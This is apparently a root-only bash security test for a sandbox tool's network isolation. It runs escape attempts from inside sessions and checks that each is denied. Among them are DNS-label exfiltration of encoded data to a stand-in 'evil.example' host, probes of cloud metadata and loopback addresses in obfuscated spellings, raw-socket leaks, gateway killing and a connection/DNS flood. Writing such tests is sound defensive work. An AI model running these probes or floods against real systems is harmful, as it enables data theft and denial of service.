#!/bin/bash
# This file runs rows 40 to 48 of the attacks from inside sessions of `berth run` whose policy reaches something:
# past it by address, by name, by resolver and by protocol, while the gateway is killed, and against those who
# share a host. What a program inside was told is one witness; the host's own listeners, and a capture on all of
# its interfaces, are the others. The world is that of
# tests/e2e/network_clients.sh; nothing leaves it.
#
#     network.sh [CASE…]      FULL=1: the loop of row 46 for a minute
set -u
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/../e2e/network_lib.sh"
own_namespaces "$@"
make_scene
if [ "$(id -u)" != 0 ]; then
    echo 'skip network: needs root'
    summary
    exit
fi
INSIDE=$(cat "$TREE/tests/attack/network_inside.py")

# ask_watch WORDS: its answer in SAID.
ask_watch() {
    echo "$*" >&"$WATCH_INPUT"
    SAID=
    read -r -t $((20 * ${TEST_SLOWER:-1})) SAID <&"$WATCH_OUTPUT" || fail "who watches does not answer: $*"
}
none_seen() {
    ask_watch count
    [ "${SAID%% *}" = 0 ] || fail "packets were seen outside: $SAID"
    ask_watch accepted
    [ "${SAID%% *}" = 0 ] || fail "the host accepted: $SAID"
}
# tries OPTIONS -- WORDS: the hostile program in a session; each try must have been denied.
tries() {
    local options=()
    while [ "$1" != -- ]; do
        options+=("$1")
        shift
    done
    shift
    inside "${options[@]}" -- python3 -c "$INSIDE" "$@"
    expect "$OUT" '^done inside [1-9]'
    expect_not "$OUT" '^try .*: SUCCEEDED'
    expect_not "$OUT" '^try .*: LATE'
}
PUBLIC=93.184.215.15 PUBLIC6=2606:2800:220:1::15
# The host's own: of its link, and one that looks like anybody's.
HOST=192.0.2.9 HOST6=2001:db8:9::9 OWN=93.184.216.9 OWN6=2606:2800:221::9
# Whatever the mode is, nobody reaches these.
NEVER=(169.254.169.254 fd00:ec2::254 100.100.100.200 "$HOST" "$HOST6" "::ffff:$HOST" "$OWN" "$OWN6" "::ffff:$OWN" 0.0.0.0 :: 127.0.0.1 ::1 127.0.0.2
    ::ffff:127.0.0.1 10.1.2.3 ::ffff:10.1.2.3 192.168.1.1 100.64.0.1 fe80::1%lo fec0::1 64:ff9b::a01:203 2002:a01:203::1 192.0.2.1
    2001:db8:9::1 224.0.0.1 ff05::123 255.255.255.255 198.18.0.200 fd00:6272::200)
forbid_never() { ask_watch forbid 169.254.169.254/32 fd00:ec2::/64 100.64.0.0/10 10.0.0.0/8 192.168.0.0/16 64:ff9b::/96 2002::/16 127.0.0.0/8 ::1/128 224.0.0.1/32 ff05::123/128 255.255.255.255/32 198.18.0.0/15 "$@"; }
words_for() { local a; for a in "${@:2}"; do echo tcp "$a" "$1"; done; }

# ---- rows ----------------------------------------------------------------------------------------------

# A capture that sees nothing proves nothing: what is allowed is seen, and so is what the host itself does.
the_watch_bites() {
    ask_watch forbid "$PUBLIC/32"
    inside --allow dual.example:80 -- sh -c "$FETCH -4 http://dual.example/"
    expect "$OUT" 'world'
    ask_watch count
    [ "${SAID%% *}" != 0 ] || inside --allow "$PUBLIC/32:80" -- sh -c "$FETCH http://$PUBLIC/"
    ask_watch count
    [ "${SAID%% *}" != 0 ] || fail 'what was allowed is not seen'
    ask_watch forbid 127.0.0.0/8
    python3 -c 'import socket; print(socket.create_connection(("127.0.0.1", 6000), 5).recv(9))' >/dev/null
    ask_watch count
    [ "${SAID%% *}" != 0 ] || fail 'what the host does is not seen'
    ask_watch accepted
    [ "${SAID%% *}" = 1 ] || fail "the host accepted $SAID"
    # What ends late is not of who comes next, and what he begins is his, from the same ports too.
    local late orders words
    mkfifo "$D/orders" "$D/words"
    python3 -uc "$HELD_BEYOND" <"$D/orders" >"$D/words" &
    late=$!
    exec {orders}>"$D/orders" {words}<"$D/words"
    read -r -t $((20 * ${TEST_SLOWER:-1})) SAID <&"$words"
    ask_watch forbid 127.0.0.0/8 ::1/128
    echo >&"$orders"
    read -r -t $((20 * ${TEST_SLOWER:-1})) SAID <&"$words"
    [ "$SAID" = ended ] || fail "no connection was ended late: $SAID"
    ask_watch count
    [ "${SAID%% *}" = 0 ] || fail "what was begun before is counted: $SAID"
    echo >&"$orders"
    exec {orders}>&- {words}<&-
    wait "$late"
    ask_watch count
    [ "${SAID%% *}" != 0 ] || fail 'what was begun anew from the same ports is not seen'
}
# A connection over each loopback, ended at one line of input; at another one the same ports are asked for again.
HELD_BEYOND='
import socket, sys
pairs = []
for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    listener = socket.create_server((address, 0), family=family)
    client = socket.create_connection(listener.getsockname()[:2])
    pairs.append((listener, client, listener.accept()[0], client.getsockname(), listener.getsockname()))
print("held")
sys.stdin.readline()
for _, client, server, *_ in pairs:
    server.sendall(b"late")
    client.recv(4)
    server.close()
    client.close()
print("ended")
sys.stdin.readline()
for listener, _, _, mine, its in pairs:
    listener.close()
    with socket.socket(socket.AF_INET6 if ":" in mine[0] else socket.AF_INET) as again:
        again.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        again.bind(mine)
        again.connect_ex(its)
'
attack_40_addresses() {
    local mode port=80
    for mode in '--allow web.example:80' '--net public-only' '--net allow --deny 93.184.215.12/30:* --deny 2606:2800::/32'; do
        forbid_never
        # shellcheck disable=SC2046,SC2086 # words
        tries $mode -- $(words_for $port "${NEVER[@]}") $(words_for 6000 "$HOST" "$HOST6" "$OWN" "$OWN6" 127.0.0.1 ::1 0.0.0.0) tcp "$HOST" 2222
        none_seen
    done
    # What the rules do not name, of the world.
    ask_watch forbid "$PUBLIC/32" 2606:2800::/32 93.184.215.14/32
    tries --allow six.example:81 -- tcp "$PUBLIC" 80 tcp "$PUBLIC6" 80 tcp "::ffff:$PUBLIC" 80 tcp 93.184.215.14 80 \
        tcp six.example 2222 tcp web.example 80 tcp 93.184.215.53 53
    none_seen
}
attack_41_names_as_a_way_out() {
    local n data=aGlkZGVuaW5sYWJlbHM
    ask_watch forbid 9.9.9.9/32 2620:fe::fe/128 /$data /leak-of-a-session
    tries --allow web.example:80 -- ask "$data|evil|example" ask "$data|evil|example" 192.0.2.2 stream ask "$data|evil|example" 9.9.9.9 \
        ask "$data|evil|example" 2620:fe::fe ask "$data|evil|example" 9.9.9.9 stream ask "$data|web|example" ask "web|example|$data" \
        ask "$data|evil|example" 93.184.215.53 ask "$data|evil|example" 93.184.215.53 stream tcp 9.9.9.9 853 tcp 9.9.9.9 443 \
        udp 9.9.9.9 443 udp 9.9.9.9 5353 udp 2620:fe::fe 853 tcp "$data.evil.example" 443
    none_seen
    # A wildcard allows names; nothing is asked for them before somebody dials.
    ask_watch forbid /$data
    inside --allow '*.evil.example:80' -- python3 -c "$INSIDE" ask "$data|evil|example" ask "$data|evil|example" 9.9.9.9 stream
    expect "$OUT" '^try ask .*: SUCCEEDED an address'
    none_seen
}
attack_42_spellings() {
    ask_watch forbid 127.0.0.0/8 10.0.0.0/8 93.184.215.15/32 2606:2800::/32
    tries --allow web.example:80 --allow '*.ok.example:80' -- ask 'evil\x00|ok|example' ask 'evil\x00.ok.example' ask 'a.b|ok|example' ask 'evil.example\x00|ok|example' \
        ask 'ok|example' ask 'xn--wb-example' ask 'w\xeb|b|example' ask '127|1' ask '0x7f|1' ask '2130706433' ask '127|0|0|1' \
        ask '0177|0|0|1' ask '::ffff:10|0|0|1' ask '*|ok|example' ask 'evil|example|web|example' ask 'localhost|evil' \
        tcp 127.1 80 tcp 0x7f.1 80 tcp 2130706433 80 tcp 0177.0.0.1 80 tcp 017700000001 80 tcp ::ffff:10.0.0.1 80 \
        tcp dual.example 80 tcp DUAL.example. 80
    none_seen
    inside --allow web.example:80 -- sh -c "$FETCH http://WEB.example/; $FETCH http://web.example./"
    [ "$(grep -c world "$OUT")" = 2 ] || fail "one name in three forms: $(cat "$OUT" "$ERR")"
}
attack_43_turns_private() {
    ask_watch forbid 10.0.0.0/8 127.0.0.0/8
    inside --allow "$MODE.turns.example:80" --allow "$MODE.own.example:80" --allow "$MODE.looped.example:80" -- \
        python3 -c "$INSIDE" turns "$MODE.turns.example" 6 turns "$MODE.own.example" 2 turns "$MODE.looped.example" 2
    [ "$(grep -c SUCCEEDED "$OUT")" = 1 ] || fail "reached $(grep SUCCEEDED "$OUT" | tr '\n' ' ')"
    none_seen
}
attack_43a_the_wire_itself() {
    local words=()
    # shellcheck disable=SC2207 # words
    words+=($(words_for 3 192.0.2.2 fd00::2 127.0.0.1 ::1 127.0.0.53 198.18.0.16 fd00:6272::10) $(words_for 53 192.0.2.2 127.0.0.1))
    ask_watch forbid 127.0.0.0/8 ::1/128 198.18.0.0/15 64:ff9b::/96 2002::/16 /the-host
    inside --net allow -- python3 -c "$INSIDE" "${words[@]}"
    # The resolver answers on 53 of every address, and has nothing to say to a request of the web.
    expect_not "$OUT" '^try tcp .* 3: (SUCCEEDED|LATE)'
    expect_not "$OUT" "SUCCEEDED b'HTTP"
    # A port that another session publishes is an address of the host like any other.
    "${AS[@]}" "${ENVIRONMENT[@]}" "$BERTH" run --workspace none --publish 23456:8000 -- sleep 60 </dev/null >/dev/null 2>"$D/out/published" &
    local run=$! i
    for i in $(seq $((300 * ${TEST_SLOWER:-1}))); do
        if grep -q published "$D/out/published"; then break; fi
        sleep 0.1
    done
    grep -q published "$D/out/published" || fail "nothing was published: $(tail -n 1 "$D/out/published")"
    for i in "$HOST" "$HOST6" "$OWN" "$OWN6"; do
        if python3 -c 'import socket, sys; socket.create_connection((sys.argv[1], 23456), 5)' "$i" 2>/dev/null; then fail "published at $i"; fi
    done
    tries --net allow -- tcp "$OWN" 23456 tcp "$OWN6" 23456 tcp "$HOST" 23456 tcp "$HOST6" 23456 tcp 127.0.0.1 23456 tcp ::1 23456 tcp "::ffff:$HOST" 23456 \
        tcp 64:ff9b::c000:209 23456 tcp 2002:c000:209::1 23456 tcp ::ffff:127.0.0.1 23456
    none_seen
    kill "$run"
    wait "$run"
}
attack_44_nothing_allowed() {
    local mode
    for mode in '--net deny' '--net deny --publish 0:8000'; do
        forbid_never 93.184.215.14/31 2606:2800::/32 /leak-of-a-session
        # shellcheck disable=SC2046,SC2086 # words
        tries $mode -- $(words_for 80 "${NEVER[@]}" "$PUBLIC" "$PUBLIC6" 93.184.215.14) ask 'web|example' ask 'web|example' 93.184.215.53 \
            ask 'web|example' 127.0.0.1 stream udp "$PUBLIC" 53000
        none_seen
    done
}
attack_45_not_tcp() {
    ask_watch forbid 93.184.215.14/31 2606:2800::/32 239.1.2.3/32 ff05::123/128 255.255.255.255/32 "$HOST/32" /leak-of-a-session
    # SOCK_DGRAM 2, SOCK_RAW 3, SOCK_SEQPACKET 5; ICMP 1, ICMPv6 58, SCTP 132, UDP-Lite 136, DCCP 33 (SOCK_DCCP 6)
    tries --net allow -- udp "$PUBLIC" 443 udp "$PUBLIC6" 443 udp 239.1.2.3 5353 udp ff05::123 5353 udp 255.255.255.255 67 udp "$HOST" 6000 \
        raw 2 3 1 raw 2 3 6 raw 2 3 255 raw 10 3 58 raw 17 3 3 raw 17 2 3 raw 2 1 132 raw 2 5 132 raw 2 6 33
    none_seen
    # Sockets that the kernel may give: what they send arrives nowhere.
    inside --net allow -- python3 -c '
import socket, sys
for family, kind, protocol, to in ((2, 2, 1, "93.184.215.15"), (2, 2, 136, "93.184.215.15"), (10, 2, 58, "2606:2800:220:1::15")):
    try:
        s = socket.socket(family, kind, protocol)
        s.settimeout(1)
        s.sendto(b"\x08\0\0\0\0\0\0\0leak-of-a-session", (to, 7))
        print("SUCCEEDED", s.recv(100))
    except OSError as e: print("denied", e)'
    expect_not "$OUT" SUCCEEDED
    none_seen
}
# This test's own PID namespace has no others.
KILLED=0
kill_named() { # kill_named TITLE; KILLED counts
    local p
    for p in /proc/[0-9]*; do
        # A title that was written over arguments has NULs behind it.
        if [ "$( (tr -d '\0' <"$p/cmdline") 2>/dev/null)" = "$1" ] && kill -KILL "${p#/proc/}" 2>/dev/null; then
            KILLED=$((KILLED + 1))
        fi
    done
}
# `berth run` has one gateway for its life: killed, everything is closed. Session after session, each with its
# gateway killed at another instant.
attack_46_while_it_is_killed() {
    local end=$((SECONDS + 8)) round=0
    if [ "${FULL:-0}" = 1 ]; then end=$((SECONDS + 60)); fi
    forbid_never "$PUBLIC/32" 2606:2800::/32 /aGlkZGVu
    while [ $SECONDS -lt $end ]; do
        round=$((round + 1))
        inside --allow web.example:80 -- python3 -c "$INSIDE" for 1.5 tcp "$PUBLIC" 80 tcp "$PUBLIC6" 80 tcp "$HOST" 6000 tcp 10.1.2.3 80 tcp 169.254.169.254 80 \
            tcp 192.0.2.2 3 tcp 127.0.0.1 3 tcp dual.example 80 ask 'aGlkZGVu|evil|example' udp "$PUBLIC" 443 &
        local run=$!
        sleep "0.$((RANDOM % 9))"
        kill_named 'berth: gateway'
        wait "$run"
        OUT=$D/out/out ERR=$D/out/err
        expect_not "$OUT" 'SUCCEEDED (b|an)'
    done
    [ "$round" -ge 2 ] || fail "only $round rounds"
    none_seen
}
# A service starts again what is killed: in no instant of it is more reached than the rules say, and in the end
# what they allow is.
attack_46_under_a_service() {
    local i seconds=20 run
    if [ "${FULL:-0}" = 1 ]; then seconds=60; fi
    forbid_never "$PUBLIC/32" 2606:2800::/32 /aGlkZGVu
    echo '{}' >"$D/serve.jsonc"
    if [ "$MODE" != self ]; then chown "$UID_HERE" "$D/serve.jsonc"; fi
    "${AS[@]}" "${ENVIRONMENT[@]}" "$BERTH" serve --config "$D/serve.jsonc" </dev/null >"$D/out/serve" 2>&1 &
    local service=$!
    for i in $(seq $((100 * ${TEST_SLOWER:-1}))); do
        berth session create net1 --allow web.example:80
        if [ "$RC" = 0 ]; then break; fi
        sleep 0.1
    done
    [ "$RC" = 0 ] || fail "no session: $(tail -n 2 "$ERR" "$D/out/serve" | tr '\n' ' ')"
    # SOCK_RAW 3, ICMP 1, ICMPv6 58, AF_PACKET 17, SCTP 132
    TIME=$((seconds + 60)) berth exec net1 -- python3 -c "$INSIDE" for $seconds tcp "$PUBLIC" 80 tcp "$PUBLIC6" 80 tcp "::ffff:$PUBLIC" 80 \
        tcp "$OWN" 6000 tcp "$HOST" 6000 tcp "::ffff:$HOST" 6000 tcp 10.1.2.3 80 tcp 169.254.169.254 80 tcp 64:ff9b::a01:203 80 tcp 192.0.2.2 3 \
        tcp 127.0.0.1 3 tcp dual.example 80 tcp inner.example 80 ask 'aGlkZGVu|evil|example' ask 'aGlkZGVu|evil|example' 9.9.9.9 stream \
        udp "$PUBLIC" 443 udp "$PUBLIC6" 443 raw 2 3 1 raw 10 3 58 raw 17 3 3 raw 2 1 132 &
    run=$!
    local -A killed=([gateway]=0 [front]=0 [launcher]=0)
    local roles=(gateway launcher gateway front) turn=0
    while kill -0 "$run" 2>/dev/null; do
        sleep "0.$((RANDOM % 9))"
        i=${roles[turn++ % 4]}
        KILLED=0
        kill_named "berth: $i"
        killed[$i]=$((killed[$i] + KILLED))
    done
    wait "$run"
    OUT=$D/out/out ERR=$D/out/err
    # Whoever follows a command comes back to its output: all of it is here.
    expect "$OUT" '^done inside [1-9]'
    expect_not "$OUT" 'SUCCEEDED (b|an|a socket)'
    for i in "${!killed[@]}"; do [ "${killed[$i]}" -gt 0 ] || fail "no $i was killed"; done
    if [ "${FULL:-0}" = 1 ]; then
        echo "attack 46, $seconds s as $MODE: $(sed -n 's/^done inside //p' "$OUT") tries, killed: gateway ${killed[gateway]}, launcher ${killed[launcher]}, front ${killed[front]}"
    fi
    none_seen
    # The supervisor lives, and so has what an ordinary user's launchers made.
    for i in $(seq $((100 * ${TEST_SLOWER:-1}))); do
        berth exec net1 -- sh -c "$FETCH http://web.example/"
        if grep -q world "$OUT"; then break; fi
        sleep 0.1
    done
    expect "$OUT" world
    berth session destroy net1 --delete-volume
    kill -TERM "$service"
    wait "$service"
}
attack_47_floods() {
    ask_watch forbid 10.0.0.0/8 127.0.0.0/8 ::1/128
    inside --allow web.example:80 -- python3 -c '
import os, random, resource, socket, struct, sys
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
held, r = [], random.Random(7)
def connect():
    s = socket.socket(); s.setblocking(False)
    try: s.connect(("web.example", 80))
    except BlockingIOError: pass
    return s
address = socket.getaddrinfo("web.example", 80, socket.AF_INET)[0][4]
for _ in range(5000):                                  # half-open requests, more than a session may have
    s = socket.socket(); s.setblocking(False)
    try: s.connect(address)
    except OSError: pass
    held.append(s)
for s in held[::2]:
    try: s.send(b"G")
    except OSError: pass
for s in held[::3]:                                    # a storm of resets
    try: s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    except OSError: pass
    s.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(("192.0.2.2", 53))
for _ in range(3000):                                  # huge and malformed questions
    try: u.send(r.randbytes(r.choice((0, 1, 11, 12, 13, 17, 512, 4096, 60000))))
    except OSError: pass
for _ in range(100):
    try:
        t = socket.create_connection(("192.0.2.2", 53), 5); t.sendall(struct.pack(">H", 65535) + r.randbytes(2000)); held.append(t)
    except OSError: pass
for s in held: s.close()
import time, urllib.request
end = time.time() + 30
while True:
    try: print(urllib.request.urlopen("http://web.example/", timeout=10).read().decode()); break
    except OSError as e:
        if time.time() > end: print("not served any more", e); break' &
    local run=$! peak=0 now p
    # Its memory, while that goes on.
    while kill -0 "$run" 2>/dev/null; do
        for p in /proc/[0-9]*; do
            if [ "$( (tr '\0' ' ' <"$p/cmdline") 2>/dev/null)" = 'berth: gateway ' ]; then
                now=$(sed -n 's/^VmHWM:[^0-9]*\([0-9]*\).*/\1/p' "$p/status" 2>/dev/null)
                if [ "${now:-0}" -gt "$peak" ]; then peak=$now; fi
            fi
        done
        sleep 0.2
    done
    wait "$run"
    OUT=$D/out/out ERR=$D/out/err
    expect "$OUT" world
    [ "$peak" -gt 0 ] && [ "$peak" -le 131072 ] || fail "the gateway had $peak KiB"
    none_seen
}
attack_48_ports_inside() {
    ask_watch forbid 10.0.0.0/8
    tries --allow web.example:80 -- bind 3 bind 53 bind 22 bind 1
    tries --net deny --publish 0:8000 -- bind 3 bind 53
    # A listener inside is nobody's outside, whatever port it has; the host's own is not shadowed.
    inside --allow web.example:80 -- python3 -c '
import socket, time
for port in (80, 6000, 7000):
    for family in (2, 10):
        s = socket.socket(family); s.setsockopt(1, 2, 1)
        if family == 10: s.setsockopt(41, 26, 1)
        s.bind(("", port)); s.listen(); globals()[f"s{port}{family}"] = s
print("listens", flush=True); time.sleep(3)' &
    local run=$! i
    for i in $(seq $((100 * ${TEST_SLOWER:-1}))); do
        if grep -q listens "$D/out/out" 2>/dev/null; then break; fi
        sleep 0.1
    done
    python3 - "$HOST" "$HOST6" <<'P' >"$D/out/outside"
import socket, sys
for address in ("127.0.0.1", "::1", *sys.argv[1:]):
    for port in (80, 6000, 7000):
        try: print(port, socket.create_connection((address, port), 5).recv(20))
        except OSError as e: print(port, type(e).__name__)
P
    wait "$run"
    [ "$(grep -c "b'the host" "$D/out/outside")" = 8 ] && [ "$(grep -c 'ConnectionRefusedError' "$D/out/outside")" = 4 ] || fail "$(tr '\n' ' ' <"$D/out/outside")"
}

# A service asks the host's resolvers.
echo 'nameserver 93.184.215.53' >"$T/etc/resolv.conf" && mount --bind "$T/etc/resolv.conf" /etc/resolv.conf || exit 2
mkfifo "$T/to" "$T/from"
python3 -B "$TREE/tests/attack/network_watch.py" <"$T/to" >"$T/from" &
exec {WATCH_INPUT}>"$T/to" {WATCH_OUTPUT}<"$T/from"
read -r -t $((60 * ${TEST_SLOWER:-1})) SAID <&"$WATCH_OUTPUT"
{ [ "$SAID" = watching ] && make_world network_clients_world.py && ip address add $OWN/32 dev lo && ip -6 address add $OWN6/128 dev lo nodad; } || { echo 'not ok network: the world was not made'; exit 1; }
CASES='the_watch_bites attack_40_addresses attack_41_names_as_a_way_out attack_42_spellings attack_43_turns_private attack_43a_the_wire_itself
attack_44_nothing_allowed attack_45_not_tcp attack_46_while_it_is_killed attack_46_under_a_service attack_47_floods attack_48_ports_inside'
if [ $# -gt 0 ]; then CASES=$*; fi
for mode in ${MODES:-$(modes_here)}; do
    enter_mode "$mode"
    for name in $CASES; do test_case "$name [$mode]" "$name"; done
done
end_world
summary
